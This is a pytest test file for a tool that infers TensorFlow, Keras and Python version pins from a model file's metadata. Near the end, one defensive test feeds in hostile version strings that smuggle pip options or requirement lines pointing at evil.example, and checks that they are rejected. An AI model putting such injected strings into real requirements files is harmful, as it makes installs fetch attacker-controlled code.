"""capturing/infer.py: planning an inferred capture from the model file alone (no network)."""
import pytest

from envrepro.capturing import infer
from envrepro.modelfiles.info import LambdaInfo
from envrepro.modelfiles.read import ModelFileInfo


def test_infer_plan_savedmodel():
    p = infer.plan(ModelFileInfo(path="/sm", format="savedmodel", tensorflow_version="2.4.1", keras_version="2.4.0"))
    assert p.tensorflow == "2.4.1" and p.python == "3.8" and p.keras_flavor == "tf.keras"
    assert p.requirements == ["tensorflow-cpu==2.4.1"]
    assert "numpy==1.19.5" in p.constraints and "h5py==2.10.0" in p.constraints


def test_infer_plan_h5_and_keras3_and_tf_keras():
    p = infer.plan(ModelFileInfo(path="/m.h5", format="h5", keras_version="2.4.0"))
    assert p.tensorflow == "2.4.4" and any("keras_version 2.4.0" in r for r in p.reasons)
    p = infer.plan(ModelFileInfo(path="/m.keras", format="keras", keras_version="3.5.0"))
    assert p.requirements == ["tensorflow-cpu==2.17.1", "keras==3.5.0"] and p.keras_flavor == "keras3"
    p = infer.plan(ModelFileInfo(path="/m.h5", format="h5", keras_version="2.16.0"))
    assert "tf-keras==2.16.0" in p.requirements and p.env == {"TF_USE_LEGACY_KERAS": "1"}
    p = infer.plan(ModelFileInfo(path="/sm", format="savedmodel", tensorflow_version="2.4.1",
                                 custom_ops=["Addons>Mish"]))
    assert "tensorflow-addons==0.12.1" in p.requirements
    p = infer.plan(ModelFileInfo(path="/sm", tensorflow_version="2.4.1"), python="3.7.16")
    assert p.python == "3.7"
    with pytest.raises(Exception):
        infer.plan(ModelFileInfo(path="/m.h5", format="h5"))


def _lambda_model(minor, *names, keras="2.8.0"):
    from test_bytecode import SAMPLES

    return ModelFileInfo(path="/m.h5", format="h5", keras_version=keras,
                         lambdas=[LambdaInfo(f"l{i}", "lambda", SAMPLES[minor][n]) for i, n in enumerate(names)])


def test_lambda_bytecode_pins_the_python():
    """TF 2.8 supports 3.7 .. 3.10 (likeliest 3.10): a lambda written by 3.9 makes it 3.9."""
    assert infer.plan(ModelFileInfo(path="/m.h5", format="h5", keras_version="2.8.0")).python == "3.10"
    p = infer.plan(_lambda_model("3.9", "is"))
    assert p.python == "3.9" and "Python 3.9: the Lambda layers' bytecode was written by Python 3.9" in p.reasons
    p = infer.plan(_lambda_model("3.10", "arith"))
    assert p.python == "3.10" and p.reasons[-1] == "Python 3.10: the Lambda layers' bytecode was written by Python 3.10"


def test_lambda_bytecode_of_two_minors_within_what_the_tf_supports():
    p = infer.plan(_lambda_model("3.8", "arith"))      # 3.8 or 3.9, both TF 2.8 wheels: the newer
    assert p.python == "3.9" and p.reasons[-1].endswith("written by Python 3.8 or 3.9; 3.9: the newest of them")
    p = infer.plan(_lambda_model("3.8", "arith", keras="2.4.0"))   # TF 2.4 has no 3.9 wheels
    assert p.python == "3.8" and p.reasons[-1].endswith("Python 3.8 or 3.9 (3.9 has no TF 2.4 wheels)")


def test_lambda_bytecode_the_tf_cannot_run_or_cannot_be_read_keeps_the_likeliest():
    p = infer.plan(_lambda_model("3.11", "call", keras="2.4.0"))
    assert p.python == "3.8" and "written by Python 3.11, for which TF 2.4 has no wheels" in p.reasons[-1]
    junk = ModelFileInfo(path="/m.h5", format="h5", keras_version="2.4.0", lambdas=[LambdaInfo("l", "lambda", "AAAA")])
    p = infer.plan(junk)
    assert p.python == "3.8" and "bytecode is of no Python envrepro knows" in p.reasons[-1]
    assert infer.plan(_lambda_model("3.9", "is"), python="3.7.16").python == "3.7"   # given wins


@pytest.mark.parametrize("tf,keras,python", [("2.4.1", "2.4.0", "3.8"), ("2.8.4", "2.8.0", "3.10"),
                                             ("2.12.0", "2.12.0", "3.11"), ("2.15.1", "2.15.0", "3.11"),
                                             ("2.21.0", "3.13.1", "3.12")])
def test_the_python_each_saving_tf_gets_without_lambdas(tf, keras, python):
    """One table (compat.yaml python_likely): the SavedModel's tensorflow_version, or for an
    H5/.keras file the TF its keras_version names, decides the Python."""
    assert infer.plan(ModelFileInfo(path="/sm", format="savedmodel", tensorflow_version=tf,
                                    keras_version=keras)).python == python
    if not keras.startswith("3."):   # an H5 file: TF from keras_version, its last patch release
        assert infer.plan(ModelFileInfo(path="/m.h5", format="h5", keras_version=keras)).python == python


@pytest.mark.parametrize("field,value", [
    ("tensorflow_version", "2.4.1 --extra-index-url http://evil.example/simple"),
    ("tensorflow_version", "2.4.1\n-e git+https://evil.example/x.git"),
    ("tensorflow_version", "2.4.1; os_name == 'posix'"),
    ("keras_version", "3.5.0 @ https://evil.example/keras.whl"),
    ("keras_version", "3.5.0\n--index-url http://evil.example"),
    ("keras_version", "2.16.0 --trusted-host evil.example"),
])
def test_version_strings_from_a_model_file_are_versions_or_refused(field, value):
    """Version strings read from a hostile model file go into a requirements file: only a PEP 440
    version passes, anything else is one CaptureError naming the file (exit 2)."""
    from envrepro.errors import CaptureError

    kw = {"tensorflow_version": "2.17.1", "keras_version": "3.5.0"}
    kw[field] = value
    with pytest.raises(CaptureError) as e:
        infer.plan(ModelFileInfo(path="/evil.keras", format="keras", **kw))
    assert "is not a version" in str(e.value) and "/evil.keras" in str(e.value)
    assert e.value.exit_code == 2


def test_versions_are_written_canonical():
    p = infer.plan(ModelFileInfo(path="/sm", format="savedmodel", tensorflow_version="2.4.01"))
    assert p.requirements == ["tensorflow-cpu==2.4.1"]
